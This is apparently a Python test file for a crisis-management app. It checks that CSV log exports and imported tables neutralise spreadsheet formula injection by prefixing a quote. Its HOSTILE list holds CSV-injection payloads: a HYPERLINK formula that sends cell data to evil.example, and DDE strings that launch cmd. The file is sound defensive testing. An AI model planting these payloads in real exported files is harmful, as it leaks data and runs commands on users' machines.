"""No cell of a CSV export is a formula a spreadsheet would run (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crisisconsole.interchange.cell_safety import FORMULA_STARTS, neutral_text, safe_cell
from crisisconsole.interchange.log_export import to_csv
from crisisconsole.services.intake.table import import_table
from crisisconsole.services.log.attachments import Attachment
from crisisconsole.services.log.entries import add_entry, correct_entry
from crisisconsole.services.log.export_data import gather_log

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_get_a_quote(text: str) -> None:
    assert neutral_text(text) == "'" + text


def test_plain_text_and_numbers_stay_as_they_are() -> None:
    assert neutral_text("Rook bij de haven = gevaarlijk") == "Rook bij de haven = gevaarlijk"
    assert safe_cell(-5) == -5 and safe_cell(-2.5) == -2.5 and safe_cell(None) == ""
    assert safe_cell("-5") == "'-5"  # text that looks like a number is still text


@given(st.text())
def test_no_safe_text_starts_a_formula(text: str) -> None:
    safe = neutral_text(text)
    assert not safe.startswith(FORMULA_STARTS) and safe.removeprefix("'") in (text, text[1:])


def _cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""),
                               delimiter=";"))


def test_log_export_neutralises_every_column_imported_texts_included(ctx, crisis, tmp_path):
    entry = add_entry(ctx, crisis.id, HOSTILE[0], HOSTILE[1], person=HOSTILE[2],
                      location=HOSTILE[3], discipline=None,
                      attachments=[Attachment("=cmd.txt", b"x")])
    correct_entry(ctx, entry.id, HOSTILE[4], HOSTILE[5])
    sheet = tmp_path / "import.csv"
    sheet.write_text('Tijdstip;Bron;Melding;Locatie\n'
                     '2026-11-29T10:00:00Z;"@bron";"=1+1";"-1+1"\n', encoding="utf-8")
    item = import_table(ctx, crisis.id, sheet, {"Tijdstip": "occurred_at", "Bron": "source",
                                                "Melding": "text", "Locatie": "location"})
    assert item.status == "imported"
    rows = _cells(to_csv(gather_log(ctx, crisis.id)))
    assert rows, "nothing exported"
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(FORMULA_STARTS), (column, value)
    texts = {r["text"] for r in rows}
    assert "'" + HOSTILE[0] in texts and "'=1+1" in texts and "'=cmd.txt" in texts
    assert {r["version"] for r in rows if r["record"] == "version"} >= {"1", "2"}
    assert all(r["size"].isdigit() for r in rows if r["record"] == "attachment")


@given(st.dictionaries(
    st.sampled_from(("a", "b", "c", "d")),
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False),
              st.text(max_size=6), st.sampled_from(("=1", "+a", "-", "@x", "\tq", "\r", "'")))))
def test_safe_values_are_safe_rows_cells_in_column_order(row):
    from crisisconsole.interchange.cell_safety import safe_row, safe_values

    columns = ("a", "b", "c", "d")
    assert safe_values(row, columns) == list(safe_row(row, columns).values())
